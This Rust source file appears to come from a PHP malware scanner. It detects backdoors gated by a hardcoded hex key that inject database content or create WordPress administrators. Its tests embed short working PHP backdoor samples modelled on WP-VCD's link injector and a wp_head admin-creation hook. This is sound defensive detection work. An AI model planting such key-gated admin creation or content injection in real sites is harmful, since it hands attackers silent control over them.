//! A remote control kept behind a password written in the file: a request field compared with
//! a long hexadecimal literal (`$_REQUEST['password'] == '1e75…'`, `md5($_POST['key']) ==
//! 'b7d1…'`) in a file that writes what the request sends into the site's database
//! (`UPDATE … posts SET post_content = …$_REQUEST…`): WP-VCD's link injector, which adds
//! links and whole spam pages to a site on its owner's orders; or that makes an administrator
//! behind it (a `wp_head` hook). An application checks its users through its own login, not
//! against a key written in its code.

use std::sync::LazyLock;

use regex::bytes::Regex;

use super::Shape;
use super::input::is_request;
use super::tokens::{ident, is_op, str_value};
use crate::detect::{Danger, Why};
use crate::php::{Tok, Token};

/// The shortest hexadecimal key that counts (an MD5 is 32).
const MIN_KEY: usize = 16;
const MAX_KEY: usize = 128;
/// How far a statement is read for request input.
const STATEMENT: usize = 256;

/// A request field, or a hash of one, compared with a long hexadecimal literal (before
/// tokenizing; written from the field, whose `$_` the search looks for first).
static KEY_COMPARED: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(concat!(
        r#"(?-u)(?i:md5|sha1|crc32)\s*\(\s*\$_(?:REQUEST|GET|POST|COOKIE)\s*\[[^\]]{1,64}\]\s*\)\s*[=!]==?\s*['"][0-9a-fA-F]{16}"#,
        r#"|\$_(?:REQUEST|GET|POST|COOKIE)\s*\[[^\]]{1,64}\]\s*[=!]==?\s*['"][0-9a-fA-F]{16}"#,
    ))
    .expect("pattern compiles")
});

/// Whether the file may hold a written key's gate.
pub(super) fn may_match(text: &[u8]) -> bool {
    KEY_COMPARED.is_match(text)
}

/// Whether the literal at `i` is a written key a request field is compared with
/// (`$_REQUEST['password'] == '1e75…'`, `md5($_POST['key']) === 'b7d1…'`, or the other way
/// round). Asked of every literal by the shapes' facts.
pub(super) fn key_gate_at(t: &[Token<'_>], i: usize) -> bool {
    let compares = |k: usize| matches!(t.get(k).map(|x| &x.tok), Some(Tok::Op(b"==" | b"===" | b"!=" | b"!==")));
    str_value(&t[i]).is_some_and(is_key)
        && ((i > 0 && compares(i - 1) && request_ends_at(t, i - 1)) || (compares(i + 1) && request_starts_at(t, i + 2)))
}

/// What the file does behind the written key at `gate`: makes an administrator, or writes what
/// the request sends into the database.
pub(super) fn behind_key(t: &[Token<'_>], gate: usize) -> Option<Shape> {
    // An administrator made behind the key (a `wp_head` hook making one from the request).
    let makes_admin = t.iter().enumerate().any(|(i, x)| {
        ident(x).is_some_and(|n| n.eq_ignore_ascii_case(b"wp_create_user") || n.eq_ignore_ascii_case(b"wp_insert_user"))
            && is_op(t.get(i + 1), b"(")
    }) && t.iter().any(|x| str_value(x) == Some(b"administrator"));
    if makes_admin {
        return Some(Shape { why: Why::AdminBackdoor, danger: Danger::High, at: gate });
    }
    request_rows_written(t).is_some().then_some(Shape { why: Why::RemoteSpamControl, danger: Danger::High, at: gate })
}

/// Where a query writes rows with what the request sends (`UPDATE … SET post_content = …
/// $_POST['body'] …`), if one does.
pub(super) fn request_rows_written(t: &[Token<'_>]) -> Option<usize> {
    t.iter().enumerate().find_map(|(i, x)| {
        (str_value(x).is_some_and(writes_rows)
            && t[i..t.len().min(i + STATEMENT)]
                .iter()
                .take_while(|y| !is_op(Some(y), b";"))
                .any(|y| matches!(y.tok, Tok::Var(v) if is_request(v))))
        .then_some(x.at)
    })
}

fn is_key(v: &[u8]) -> bool {
    (MIN_KEY..=MAX_KEY).contains(&v.len()) && v.iter().all(u8::is_ascii_hexdigit)
}

/// Whether a request field (`$_REQUEST['password']`), or a hash of one, ends just before `i`.
fn request_ends_at(t: &[Token<'_>], i: usize) -> bool {
    // `$_REQUEST['k']` or `md5($_POST['k'])`
    let field = |end: usize| {
        end >= 4
            && is_op(t.get(end - 1), b"]")
            && str_value(&t[end - 2]).is_some()
            && is_op(t.get(end - 3), b"[")
            && matches!(t[end - 4].tok, Tok::Var(v) if is_request(v))
    };
    field(i) || (is_op(t.get(i.wrapping_sub(1)), b")") && field(i - 1) && i >= 7 && is_hash(&t[i - 7]))
}

/// Whether a request field, or a hash of one, starts at `i`.
fn request_starts_at(t: &[Token<'_>], i: usize) -> bool {
    let field = |k: usize| {
        matches!(t.get(k).map(|x| &x.tok), Some(Tok::Var(v)) if is_request(v))
            && is_op(t.get(k + 1), b"[")
            && t.get(k + 2).and_then(str_value).is_some()
    };
    field(i) || (t.get(i).is_some_and(is_hash) && is_op(t.get(i + 1), b"(") && field(i + 2))
}

fn is_hash(x: &Token<'_>) -> bool {
    ident(x).is_some_and(|n| [b"md5".as_slice(), b"sha1", b"crc32"].iter().any(|h| n.eq_ignore_ascii_case(h)))
}

/// A query that writes rows (`UPDATE …`, `INSERT INTO …`, `DELETE FROM …`).
fn writes_rows(v: &[u8]) -> bool {
    let head = v.trim_ascii_start();
    let starts = |w: &[u8]| head.len() >= w.len() && head[..w.len()].eq_ignore_ascii_case(w);
    starts(b"update ") || starts(b"insert into ") || starts(b"delete from ")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::php::{Arena, tokenize};

    fn found_in(t: &[Token<'_>]) -> Option<Shape> {
        let gate = (0..t.len()).find(|&i| key_gate_at(t, i))?;
        behind_key(t, t[gate].at)
    }

    fn found(src: &str) -> bool {
        let arena = Arena::new();
        let t = tokenize(src.as_bytes(), &arena, 100_000);
        found_in(&t).is_some()
    }

    #[test]
    fn a_link_injector_behind_a_written_key_is_found() {
        let vcd = "<?php if (isset($_REQUEST['action']) && ($_REQUEST['password'] == '1e7526a17100aa03039a5fe7c6850e3f')) {\n\
                   $wpdb->query('UPDATE `' . $wpdb->prefix . 'posts` SET `post_content` = \"' . esc_sql($_REQUEST['data']) . '\" WHERE `ID` = 1'); }";
        assert!(found(vcd));
        let hashed = "<?php if (md5($_POST['key']) === 'b7d1f9c0cfb3bc2b73939fc55dd6956e') {\n\
                      mysqli_query($db, \"INSERT INTO pages SET url = '\" . $_POST['url'] . \"'\"); }";
        assert!(found(hashed));
    }

    #[test]
    fn an_administrator_made_behind_a_written_key_is_a_backdoor() {
        // fresh71's `wp_head` hook.
        let hook = "<?php add_action('wp_head', 'bd'); function bd() { if (md5($_GET['backdoor']) == '5f4dcc3b5aa765d61d8327deb882cf99') {\n\
                    $id = wp_create_user($_GET['username'], $_GET['password']); $u = new WP_User($id); $u->set_role('administrator'); } }";
        let arena = Arena::new();
        let t = tokenize(hook.as_bytes(), &arena, 100_000);
        assert_eq!(found_in(&t).map(|s| s.why), Some(Why::AdminBackdoor));
    }

    #[test]
    fn keys_without_writes_and_writes_behind_a_login_are_quiet() {
        // A cron key guarding a cache purge, and an application writing behind its own login.
        assert!(!found("<?php if ($_GET['key'] == 'a1b2c3d4e5f60718293a4b5c') { purge_cache(); }"));
        assert!(!found(
            "<?php if (current_user_can('edit_posts')) { $wpdb->query('UPDATE posts SET title = ' . $_POST['t']); }"
        ));
        // A key that is a word, not a hash.
        assert!(!found(
            "<?php if ($_GET['mode'] == 'administrator_mode') { $db->query('DELETE FROM log WHERE id=' . $_GET['id']); }"
        ));
    }
}
